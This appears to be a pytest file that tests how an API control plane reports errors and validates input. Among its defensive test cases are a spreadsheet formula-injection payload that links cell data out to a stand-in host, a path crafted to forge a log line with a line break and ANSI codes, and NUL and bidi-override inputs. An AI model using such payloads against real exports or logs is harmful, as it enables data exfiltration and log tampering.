"""Every error leaves the control plane as an RFC 9457 problem detail."""

from __future__ import annotations

import logging
from typing import Any

import pytest
from cp_support import World, problem_of
from litestar import Request
from litestar.testing import TestClient
from sqlalchemy.exc import DataError, IntegrityError
from sqlalchemy.orm import Session

from trunkline.apps.problems import _integrity_error
from trunkline.errors import Conflict
from trunkline.kit.logging import current
from trunkline.models import Tier, User
from trunkline.tenancy.changes import flush_or_conflict


def post(world: World, path: str, **kwargs: Any) -> Any:
    headers = {**world.api("root").headers, **kwargs.pop("headers", {})}
    return world.client.post(path, headers=headers, **kwargs)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"name": "p", "priority": "high", "ttft_slo_ms": 1}, "priority"),
        ({"name": "p", "priority": 1}, "ttft_slo_ms"),
        ({"name": "Not A Name", "priority": 1, "ttft_slo_ms": 1}, "name"),
        ({"name": "p", "priority": 1, "ttft_slo_ms": -5}, "ttft_slo_ms"),
        ({"name": "p", "priority": 1, "ttft_slo_ms": 1, "colour": "red"}, "colour"),
    ],
)
def test_validation_errors_name_the_field(world: World, body: dict[str, Any], field: str) -> None:
    problem = problem_of(post(world, "/api/v1/tiers", json=body), 400)

    assert problem["code"] == "invalid_request"
    assert problem["instance"] == "/api/v1/tiers"
    assert [e["field"] for e in problem["errors"]] == [field]
    assert field in problem["detail"]


@pytest.mark.parametrize(
    ("path", "method", "body", "field"),
    [
        ("/api/v1/tiers/gold/quota", "PUT", {"tenant": {"tokens_per_minute": "1000"}},
         "tenant.tokens_per_minute"),
        ("/api/v1/tiers/gold/quota", "PUT", {"key": {"tokens_per_day": "null"}},
         "key.tokens_per_day"),  # read as null: the limit removed
        ("/api/v1/tiers/gold/quota", "PUT", {"key": {"cost_per_month": "12.5"}},
         "key.cost_per_month"),
        ("/api/v1/tiers", "POST", {"name": "p", "priority": "1", "ttft_slo_ms": 1}, "priority"),
        ("/api/v1/tiers", "POST", {"name": "p", "priority": 1, "ttft_slo_ms": 1,
                                   "may_use_burst": "true"}, "may_use_burst"),
        ("/api/v1/tiers/gold", "PATCH", {"may_use_burst": 1}, "may_use_burst"),
    ],
)  # fmt: skip
def test_a_number_or_boolean_given_as_another_type_is_refused_not_converted(
    world: World, path: str, method: str, body: dict[str, Any], field: str
) -> None:
    """A quota of ``"1000"`` was stored as 1000, ``"null"`` removed a limit, ``"true"`` and
    ``1`` were true: Litestar converts request bodies loosely. A body is now read as JSON
    says (as the manifests are): a refusal naming the field, nothing changed."""
    quota = world.admin.get("/api/v1/tiers/gold/quota")
    tier = world.admin.get("/api/v1/tiers/gold")
    response = world.client.request(method, path, json=body, headers=world.admin.headers)

    problem = problem_of(response, 400)
    assert problem["code"] == "invalid_request"
    assert problem["errors"] == [
        {"field": field, "message": problem["errors"][0]["message"], "source": "body"}
    ]
    assert "got `" in problem["errors"][0]["message"]  # what it was given instead
    assert field in problem["detail"]
    assert world.admin.get("/api/v1/tiers/gold/quota") == quota
    assert world.admin.get("/api/v1/tiers/gold") == tier


def test_a_number_without_a_fraction_is_an_integer_as_json_schema_says(world: World) -> None:
    """The OpenAPI document's ``integer`` takes ``60.0`` (JSON Schema), as JavaScript and
    Python clients may write a whole number."""
    limits = {"key": {"requests_per_minute": 60.0, "cost_per_month": 12}}
    world.admin.put("/api/v1/tiers/gold/quota", limits)
    stored = world.admin.get("/api/v1/tiers/gold/quota")["key"]
    assert stored == {"requests_per_minute": 60, "cost_per_month": 12.0}
    assert isinstance(stored["requests_per_minute"], int)
    world.admin.put("/api/v1/tiers/gold/quota", {"key": {"requests_per_minute": 60.5}}, 400)


def test_nested_validation_errors_name_the_field(world: World) -> None:
    project = world.project("acme", "demo")
    path = f"/api/v1/tenants/{world.tenant('acme')}/keys"

    problem = problem_of(
        post(world, path, json={"project_id": project, "name": "k", "allowed_models": [3]}), 400
    )
    assert problem["errors"][0]["field"].startswith("allowed_models")
    problem = problem_of(post(world, path, json={"project_id": "not-a-uuid", "name": "k"}), 400)
    assert problem["errors"][0]["field"] == "project_id"


@pytest.mark.parametrize(
    "body",
    [
        b"{",
        b'{"name": ',
        b"not json",
        b"\xff\xfe",
        b'{"name": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    ],
)
def test_malformed_json_is_a_problem(world: World, body: bytes) -> None:
    response = post(
        world, "/api/v1/tiers", content=body, headers={"content-type": "application/json"}
    )

    problem = problem_of(response, 400)
    assert problem["code"] == "invalid_request"
    assert problem["detail"].startswith("the body is not valid JSON")
    (error,) = problem["errors"]  # the field at fault is the whole body
    assert (error["field"], error["source"]) == ("body", "body")
    assert error["message"] and error["message"] in problem["detail"]


@pytest.mark.parametrize(
    ("path", "body", "field", "source"),
    [
        ("/api/v1/tenants?after=not-a-cursor", None, "after", "query"),
        ("/api/v1/tenants/{acme}/keys?limit=5&after=WyJ4Il0", None, "after", "query"),
        ("/api/v1/billing/exports/2026-13", None, "period", "path"),
        ("/api/v1/billing/exports/2026-11?format=xlsx", None, "format", "query"),
        ("/api/v1/tenants/{acme}/usage?period=11-2026", None, "period", "query"),
        ("/api/v1/tenants/{acme}/keys", {"ttl_days": 1, "expires_at": "2099-01-01T00:00:00Z"},
         "ttl_days", "body"),
        ("/api/v1/tenants/{acme}/keys", {"project_id": "{other}"}, "project_id", "body"),
    ],
)  # fmt: skip
def test_a_value_the_service_refuses_is_named_with_its_source(
    world: World, path: str, body: dict[str, Any] | None, field: str, source: str
) -> None:
    """As the schemas' refusals are: the field alone did not say whether to look in the
    path, the query or the body (``period`` is either, by route)."""
    url = path.format(acme=world.tenant("acme"))
    if body is None:
        response = world.client.get(url, headers=world.api("root").headers)
    else:
        project = body.get("project_id", world.project("acme", "demo"))
        project = world.project("globex", "support-bot") if project == "{other}" else project
        response = post(world, url, json={"name": "k", **body, "project_id": project})
    problem = problem_of(response, 404 if field == "project_id" else 400)
    assert [(e["field"], e["source"]) for e in problem["errors"]] == [(field, source)]


def test_a_problem_type_has_one_title_whatever_went_wrong(world: World) -> None:
    """RFC 9457: the title is the type's; what went wrong this time is the detail."""
    headers = {"content-type": "application/json"}
    keys = f"/api/v1/tenants/{world.tenant('acme')}/keys"
    project = world.project("acme", "demo")
    problems = [
        problem_of(post(world, "/api/v1/tiers", content=b"{", headers=headers), 400),
        problem_of(post(world, "/api/v1/tiers", json=[1, 2]), 400),
        problem_of(post(world, "/api/v1/tiers", json={}), 400),
        # refused by the service, not the schema
        problem_of(post(world, keys, json={"project_id": project, "name": "k", "ttl_days": 1,
                                           "expires_at": "2099-01-01T00:00:00Z"}), 400),
    ]  # fmt: skip
    assert {p["type"] for p in problems} == {"urn:trunkline:problem:invalid_request"}
    assert {p["title"] for p in problems} == {"Invalid request"}
    assert len({p["detail"] for p in problems}) == len(problems)


def test_a_body_that_is_not_an_object_is_a_problem(world: World) -> None:
    problem = problem_of(post(world, "/api/v1/tiers", json=[1, 2]), 400)
    assert problem["errors"][0]["message"] == "Expected `object`, got `array`"


def test_a_body_over_the_limit_is_refused(world: World) -> None:
    problem = problem_of(post(world, "/api/v1/tiers", content=b"x" * (1024 * 1024 + 1)), 413)
    assert problem["code"] == "payload_too_large"


def test_unknown_routes_and_methods_are_problems(client: TestClient[Any]) -> None:
    assert problem_of(client.get("/api/v1/nothing-here"), 404)["code"] == "not_found"
    assert problem_of(client.delete("/api/v1/tiers"), 405)["code"] == "method_not_allowed"


def test_a_malformed_path_id_reads_as_not_found(world: World) -> None:
    response = world.client.get("/api/v1/tenants/not-a-uuid", headers=world.api("root").headers)
    assert problem_of(response, 404)["code"] == "not_found"


def test_the_request_id_is_echoed_or_generated(client: TestClient[Any]) -> None:
    assert (
        client.get("/healthz", headers={"x-request-id": "abc-123"}).headers["x-request-id"]
        == "abc-123"
    )
    generated = client.get("/healthz", headers={"x-request-id": "bad id!"}).headers["x-request-id"]
    assert generated.startswith("req-")


def test_unknown_routes_and_methods_carry_a_request_id_and_are_logged(world: World) -> None:
    headers = {"x-request-id": "trace-2"}

    def call(w: World) -> None:
        assert w.client.get("/api/v1/nothing-here", headers=headers).headers["x-request-id"] == (
            "trace-2"
        )
        assert w.client.delete("/api/v1/tiers", headers=headers).headers["x-request-id"] == (
            "trace-2"
        )

    assert _logged(world, call) == ["GET /api/v1/nothing-here 404", "DELETE /api/v1/tiers 405"]


def test_request_logs_carry_the_request_and_user_ids(world: World) -> None:
    seen: list[tuple[str, dict[str, str]]] = []

    class Grab(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            seen.append((record.getMessage(), dict(current())))

    logger, handler = logging.getLogger("trunkline.controlplane"), Grab()
    logger.addHandler(handler)
    previous = logger.level
    logger.setLevel(logging.INFO)
    try:
        headers = {**world.api("acme-dev").headers, "x-request-id": "trace-1"}
        world.client.get("/api/v1/tiers", headers=headers)
    finally:
        logger.removeHandler(handler)
        logger.setLevel(previous)

    me = world.api("acme-dev").get("/api/v1/auth/me")
    assert seen == [("GET /api/v1/tiers 200", {"request_id": "trace-1", "user_id": me["id"]})]


def test_unique_constraint_races_become_conflicts(world: World) -> None:
    with world.runtime.session_factory() as session, session.begin():
        _add_duplicate_tier(session)


def _add_duplicate_tier(session: Session) -> None:
    session.add(Tier(name="gold", priority=1, ttft_slo_ms=1, itl_slo_ms=None))
    with pytest.raises(Conflict, match="tier exists"):
        flush_or_conflict(session, "tier exists")
    session.rollback()


def test_a_missing_query_parameter_is_named(world: World) -> None:
    path = f"/api/v1/tenants/{world.tenant('acme')}/usage"
    response = world.client.get(path, headers=world.api("root").headers)
    problem = problem_of(response, 400)
    assert problem["errors"] == [{"field": "period", "message": "required", "source": "query"}]
    assert problem["detail"] == "invalid value for period"


def test_a_query_parameter_of_the_wrong_kind_is_named_with_its_source(world: World) -> None:
    path = f"/api/v1/tenants/{world.tenant('acme')}/usage?period=2026-12&group_by=hour"
    response = world.client.get(path, headers=world.api("root").headers)
    problem = problem_of(response, 400)
    assert [(e["field"], e["source"]) for e in problem["errors"]] == [("group_by", "query")]


@pytest.mark.parametrize(
    "name",
    [
        "nul\x00byte", "bell\x07", "two\nlines", "del\x7f", "trailing-break\n",
        "c1-csi\x9b31m", "c1-next-line\x85", "line\u2028separator", "bidi\u202eoverride",
        "bidi\u2067isolate",
    ],
)  # fmt: skip
def test_control_characters_in_names_are_refused_naming_the_field(world: World, name: str) -> None:
    project = world.project("acme", "demo")
    path = f"/api/v1/tenants/{world.tenant('acme')}/keys"
    problem = problem_of(post(world, path, json={"project_id": project, "name": name}), 400)
    assert [e["field"] for e in problem["errors"]] == ["name"]
    # Said in words, not as the 400-character pattern it is checked against.
    (error,) = problem["errors"]
    assert "without control or invisible characters" in error["message"], error
    assert len(error["message"]) < 200


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/tiers", {"name": "gold2\n", "priority": 1, "ttft_slo_ms": 100}),
        ("/api/v1/tenants", {"slug": "newco\n", "name": "New Co", "tier": "gold"}),
        ("/api/v1/catalog/models", {"name": "m-1\n"}),
    ],
)
def test_a_name_with_a_trailing_line_break_is_refused(
    world: World, path: str, body: dict[str, object]
) -> None:
    """Python's ``$`` matches before a final line break: the patterns must not take one."""
    problem = problem_of(post(world, path, json=body), 400)
    field = next(iter(body))
    assert [e["field"] for e in problem["errors"]] == [field]
    assert "(?!" not in problem["errors"][0]["message"]  # the pattern reads as it was written


def test_descriptions_may_hold_line_breaks_but_not_other_control_characters(world: World) -> None:
    path = f"/api/v1/tenants/{world.tenant('acme')}/projects"
    created = post(world, path, json={"name": "multi", "description": "one\n\ttwo\r\n"})
    assert created.status_code == 201, created.text
    for description in ("a\x00b", "a\x9bb", "a\u202eb"):
        refused = post(world, path, json={"name": "nul", "description": description})
        problem = problem_of(refused, 400)
        assert [e["field"] for e in problem["errors"]] == ["description"]


@pytest.mark.parametrize(
    "name",
    [
        *(" ", "   ", "\u00a0", "\u3000 ", "\u200b", "\ufeff", "\u200b\u200d\u2060", " \u00ad "),
        *("\u061c", "\u206a\u206f", "\u3164", " \ufe0f", "\u034f", "\uffa0"),
    ],
)
def test_names_of_nothing_but_spaces_are_refused(world: World, name: str) -> None:
    """A key, tenant or person named with spaces alone, or zero-width characters, shows as no
    name in every list."""
    project = world.project("acme", "demo")
    path = f"/api/v1/tenants/{world.tenant('acme')}/keys"
    problem = problem_of(post(world, path, json={"project_id": project, "name": name}), 400)
    assert [e["field"] for e in problem["errors"]] == ["name"]
    # Said in words, not as the 400-character pattern it is checked against.
    (error,) = problem["errors"]
    assert "without control or invisible characters" in error["message"], error
    assert len(error["message"]) < 200
    renamed = world.client.patch(
        f"/api/v1/tenants/{world.tenant('acme')}",
        json={"name": name},
        headers=world.api("root").headers,
    )
    assert [e["field"] for e in problem_of(renamed, 400)["errors"]] == ["name"]
    spaced = post(world, path, json={"project_id": project, "name": " key  with spaces "})
    assert spaced.status_code == 201, spaced.text


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+SUM(1,2)", "@x"])
def test_a_tenant_name_a_spreadsheet_would_run_as_a_formula_is_refused(
    world: World, name: str
) -> None:
    """It is the FOCUS export's BillingAccountName, which finance opens in a spreadsheet."""
    renamed = world.client.patch(
        f"/api/v1/tenants/{world.tenant('acme')}",
        json={"name": name},
        headers=world.api("root").headers,
    )
    (error,) = problem_of(renamed, 400)["errors"]
    assert error["field"] == "name" and "run it as a formula" in error["message"], error


def test_names_in_other_scripts_are_taken(world: World) -> None:
    path = f"/api/v1/tenants/{world.tenant('acme')}/keys"
    project = world.project("acme", "demo")
    for name in ("Ωmega", "日本語のキー", "مفتاح", "clé à molette"):
        created = post(world, path, json={"project_id": project, "name": name})
        assert created.status_code == 201, created.text


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/tiers/a%00b",
        "/api/v1/catalog/pools/a%00b",
        "/api/v1/catalog/models/a%00b",
        "/api/v1/catalog/aliases/a%00b",
        "/api/v1/tenants/{acme}/keys/a%00b",
        "/api/v1/tenants/{acme}/keys/a%00b/quota",
        "/api/v1/tenants/{acme}/usage?period=2026-11&model=a%00b",
    ],
)
def test_a_nul_in_a_path_or_query_parameter_is_refused_naming_it(world: World, path: str) -> None:
    """PostgreSQL refuses NUL in text: looked up, it would fail in the database as a 500."""
    url = path.format(acme=world.tenant("acme"))
    problem = problem_of(world.client.get(url, headers=world.api("root").headers), 400)
    assert problem["code"] == "invalid_request"
    field = (
        "model" if "model=" in url else "alias" if "aliases" in url else
        "key_id" if "/keys/" in url else "name"
    )  # fmt: skip
    source = "query" if "model=" in url else "path"
    assert [(e["field"], e["source"]) for e in problem["errors"]] == [(field, source)]
    assert problem["detail"] == f"invalid value for {field}"


def test_an_endpoint_url_with_a_control_character_is_refused(world: World) -> None:
    response = world.client.put(
        "/api/v1/catalog/pools/h100-eu-west/endpoints",
        headers=world.api("root").headers,
        json={"urls": ["http://10.0.0.1:8000/a\x00b"]},
    )
    assert [e["field"] for e in problem_of(response, 400)["errors"]] == ["urls[0]"]


def test_a_tier_name_longer_than_the_database_keeps_is_refused(world: World) -> None:
    """Tier names are stored in 32 characters (PostgreSQL: a 500 for a longer one)."""
    body = {"name": "t" * 33, "priority": 1, "ttft_slo_ms": 100}
    problem = problem_of(post(world, "/api/v1/tiers", json=body), 400)
    assert [e["field"] for e in problem["errors"]] == ["name"]
    created = post(world, "/api/v1/tiers", json={**body, "name": "t" * 32})
    assert created.status_code == 201, created.text


def test_a_value_the_database_refuses_is_a_400_not_a_500(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The schemas should refuse it first; when one misses (a column shorter than its
    schema, say), the caller still gets a problem detail, and the log one line."""

    def refuse(*_args: object, **_kwargs: object) -> None:
        orig = Exception("value too long for type character varying(32)\nDETAIL: x")
        raise DataError("INSERT INTO tiers VALUES (%(name)s)", {"name": "secret-value"}, orig)

    monkeypatch.setattr("trunkline.tenancy.service.create_tier", refuse)
    body = {"name": "t", "priority": 1, "ttft_slo_ms": 100}
    seen = _logged(world, lambda w: problem_of(post(w, "/api/v1/tiers", json=body), 400))
    assert seen[0] == (
        "the database refused a value: value too long for type character varying(32)"
    )
    assert not any("secret-value" in line for line in seen)


def _logged(world: World, call: Any) -> list[str]:
    """The messages the control plane logs while ``call(world)`` runs."""
    seen: list[str] = []

    class Grab(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            seen.append(record.getMessage())

    logger, handler = logging.getLogger("trunkline.controlplane"), Grab()
    logger.addHandler(handler)
    previous = logger.level
    logger.setLevel(logging.INFO)
    try:
        call(world)
    finally:
        logger.removeHandler(handler)
        logger.setLevel(previous)
    return seen


def test_a_path_cannot_forge_a_log_line(world: World) -> None:
    forged = "/api/v1/tiers/x%0A12:00:00%20WARNING%20trunkline.controlplane:%20forged%1B[31m"
    seen = _logged(world, lambda w: w.client.get(forged, headers=w.api("acme-dev").headers))
    assert seen == [
        "GET /api/v1/tiers/x\\x0a12:00:00 WARNING trunkline.controlplane: forged\\x1b[31m 404"
    ]


def test_a_unique_constraint_race_is_logged_without_the_statements_parameters(
    world: World,
) -> None:
    """The integrity error's text holds every parameter of the statement (here an e-mail
    address); the log keeps the constraint's message only."""

    def answered(w: World) -> None:
        with w.runtime.session_factory() as session:
            session.add(User(email="admin@acme.example", name="Secret Name"))
            with pytest.raises(IntegrityError) as raised:
                session.flush()
        scope = {"type": "http", "method": "POST", "path": "/x", "headers": [],
                 "query_string": b"", "app": w.client.app}  # fmt: skip
        request = Request[Any, Any, Any](scope)  # type: ignore[arg-type]
        assert _integrity_error(request, raised.value).status_code == 409

    seen = _logged(world, answered)
    assert len(seen) == 1 and seen[0].startswith("integrity error answered as conflict: ")
    assert "admin@acme.example" not in seen[0] and "Secret Name" not in seen[0]
    assert "\n" not in seen[0]
